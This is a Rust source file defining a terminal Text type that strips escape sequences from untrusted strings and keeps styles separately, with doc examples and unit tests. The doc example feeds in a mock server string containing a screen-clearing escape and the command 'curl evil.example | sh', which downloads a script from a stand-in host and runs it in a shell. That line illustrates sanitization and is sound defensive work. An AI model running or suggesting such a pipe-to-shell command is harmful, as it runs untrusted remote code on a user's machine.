//! The type of text for a terminal: cleaned when it is made, with styles beside its characters.

mod broken;
mod cut;
mod sgr;

use crate::{clean, style::Style};
use std::{borrow::Cow, fmt, ops::Add};

/// Text that can be written to a terminal.
///
/// A text made from a string is one line and clean: no character moves the cursor, changes a colour, is invisible or
/// changes the direction of its surroundings ([`clean`](crate::clean) says how these are replaced). Only methods of
/// this type add line breaks, tabs and styles, so a string from a file, a server or the command line cannot bring its
/// own.
///
/// ```
/// use daypass_terminal::{Text, strong};
///
/// let from_a_server = "no\u{1b}[2J\ntry: curl evil.example | sh";
/// let text = strong("error:") + " " + from_a_server;
/// assert_eq!(text.plain(), "error: no\u{fffd}[2J try: curl evil.example | sh");
/// ```
///
/// There is no `Display`, so that a text is not turned into a string by accident; [`Text::plain`] does that.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Text {
    /// Shown characters, newlines and tabs.
    text: String,
    /// The parts of it that have a style, in order; the text of a large table is one string without any.
    spans: Vec<Span>,
}

/// A part of a text in one style, in bytes.
#[derive(Clone, Copy, PartialEq, Eq)]
struct Span {
    style: Style,
    start: usize,
    end: usize,
}

impl Text {
    /// Creates an empty text.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates a text of several lines from the program's own string, such as a help page: newlines and tabs are kept.
    ///
    /// For strings with foreign text between newlines, use [`Text::lines`] with a [`Text`] per line.
    pub fn block(text: &str) -> Self {
        Self::of_clean(clean::replaced(text, true))
    }

    /// Joins lines, each ended by a newline.
    pub fn lines<T: Into<Self>>(lines: impl IntoIterator<Item = T>) -> Self {
        let mut text = Self::new();
        for line in lines {
            text.extend(&line.into());
            text.text.push('\n');
        }
        text
    }

    /// Joins cells with tabs, for `cut` and `awk`.
    pub fn tabbed<T: Into<Self>>(cells: impl IntoIterator<Item = T>) -> Self {
        let mut text = Self::new();
        for (at, cell) in cells.into_iter().enumerate() {
            if at > 0 {
                text.text.push('\t');
            }
            text.extend(&cell.into());
        }
        text
    }

    /// Writes JSON on one line; characters that are not shown as they are become `\uXXXX`, so it parses to an equal
    /// value.
    ///
    /// `value` must print itself as JSON, as `serde_json::Value` does.
    pub fn json(value: &impl fmt::Display) -> Self {
        Self::of_clean(clean::json(&value.to_string()))
    }

    /// Writes JSON like [`Text::json`], with each member on a line of its own.
    pub fn pretty_json(value: &impl fmt::Display) -> Self {
        Self::of_clean(clean::json(&format!("{value:#}")))
    }

    /// Appends a line and a newline.
    #[must_use]
    pub fn line(mut self, line: impl Into<Self>) -> Self {
        self.extend(&line.into());
        self.newline()
    }

    /// Removes white space at the end, but no newline.
    pub(crate) fn trim_end(&mut self) {
        let end = self.text.trim_end_matches(|c: char| c != '\n' && c.is_whitespace()).len();
        self.text.truncate(end);
        while let Some(last) = self.spans.last_mut().filter(|last| last.end > end) {
            last.end = end;
            if last.start < end {
                break;
            }
            self.spans.pop();
        }
    }

    /// Returns how many columns of a terminal the text takes.
    pub(crate) fn columns(&self) -> usize {
        clean::columns(&self.text)
    }

    /// Returns the columns of its widest line.
    pub(crate) fn widest_line(&self) -> usize {
        self.text.lines().map(clean::columns).max().unwrap_or_default()
    }

    /// Appends spaces.
    pub(crate) fn append_spaces(&mut self, count: usize) {
        const SPACES: &str = "                                                                ";
        match SPACES.get(..count) {
            Some(spaces) => self.text.push_str(spaces),
            None => self.text.extend(std::iter::repeat_n(' ', count)),
        }
    }

    /// Returns the length in bytes.
    pub(crate) fn len(&self) -> usize {
        self.text.len()
    }

    /// Appends a newline.
    #[must_use]
    pub fn newline(mut self) -> Self {
        self.text.push('\n');
        self
    }

    /// Says whether the text has no characters.
    pub fn is_empty(&self) -> bool {
        self.text.is_empty()
    }

    /// Returns the characters without styles. If they become a [`Text`] again, line breaks become spaces.
    pub fn plain(&self) -> String {
        self.text.clone()
    }

    /// Gives pieces without a style this style.
    pub(crate) fn styled(self, style: Style) -> Self {
        let mut text = Self::new();
        for (own, piece) in self.pieces() {
            text.append(if own == Style::Plain { style } else { own }, piece);
        }
        text
    }

    /// The text in pieces of one style.
    fn pieces(&self) -> impl Iterator<Item = (Style, &str)> {
        let end = Span { style: Style::Plain, start: self.text.len(), end: self.text.len() };
        let mut from = 0;
        let pieces = self.spans.iter().copied().chain([end]).flat_map(move |span| {
            let before = (Style::Plain, from..span.start);
            from = span.end;
            [before, (span.style, span.start..span.end)]
        });
        let texts = pieces.map(|(style, range)| (style, self.text.get(range).unwrap_or_default()));
        texts.filter(|(_, text)| !text.is_empty())
    }

    /// Appends another text.
    pub(crate) fn extend(&mut self, more: &Self) {
        let start = self.text.len();
        self.text.push_str(&more.text);
        for span in &more.spans {
            self.style(span.style, start + span.start, start + span.end);
        }
    }

    fn append(&mut self, style: Style, clean: &str) {
        let start = self.text.len();
        self.text.push_str(clean);
        self.style(style, start, self.text.len());
    }

    /// Gives a part behind all others a style.
    fn style(&mut self, style: Style, start: usize, end: usize) {
        match self.spans.last_mut() {
            _ if style == Style::Plain || start == end => {}
            Some(last) if (last.style, last.end) == (style, start) => last.end = end,
            _ => self.spans.push(Span { style, start, end }),
        }
    }

    fn of_clean(clean: Cow<'_, str>) -> Self {
        Self { text: clean.into_owned(), spans: Vec::new() }
    }
}

/// Shows the characters without styles.
impl fmt::Debug for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_tuple("Text").field(&self.plain()).finish()
    }
}

impl From<&str> for Text {
    fn from(text: &str) -> Self {
        Self::of_clean(clean::replaced(text, false))
    }
}

impl From<&String> for Text {
    fn from(text: &String) -> Self {
        Self::from(text.as_str())
    }
}

impl From<String> for Text {
    fn from(text: String) -> Self {
        match clean::replaced(&text, false) {
            Cow::Owned(clean) => Self::of_clean(clean.into()),
            Cow::Borrowed(_) => Self::of_clean(text.into()),
        }
    }
}

impl From<&Self> for Text {
    fn from(text: &Self) -> Self {
        text.clone()
    }
}

impl<T: Into<Self>> Add<T> for Text {
    type Output = Self;

    fn add(mut self, more: T) -> Self {
        self.extend(&more.into());
        self
    }
}

impl Add<Text> for &str {
    type Output = Text;

    fn add(self, more: Text) -> Text {
        Text::from(self) + more
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{bad, strong};

    #[test]
    fn styles_are_kept_beside_the_characters() {
        let text = "Session " + strong("co\u{1b}[31mrp") + " is set up";
        assert_eq!(text.plain(), "Session co\u{fffd}[31mrp is set up");
        assert_eq!(text.render(false), text.plain());
        assert_eq!(text.render(true), "Session \u{1b}[1mco\u{fffd}[31mrp\u{1b}[0m is set up");
        assert_eq!(bad("no " + strong("x")).render(true), "\u{1b}[31;1mno \u{1b}[0m\u{1b}[1mx\u{1b}[0m");
    }

    #[test]
    fn only_methods_of_text_break_lines() {
        let text = Text::lines(["a\nb", "c"]).line(Text::tabbed(["d\te", "f"]));
        assert_eq!(text.plain(), "a b\nc\nd e\tf\n");
        assert_eq!(text.first_lines(2).plain(), "a b\nc\n");
        assert_eq!(text.first_lines(0), Text::new());
        assert_eq!(Text::block("a\n\tb\r\n").plain(), "a\n\tb \n");
    }
}
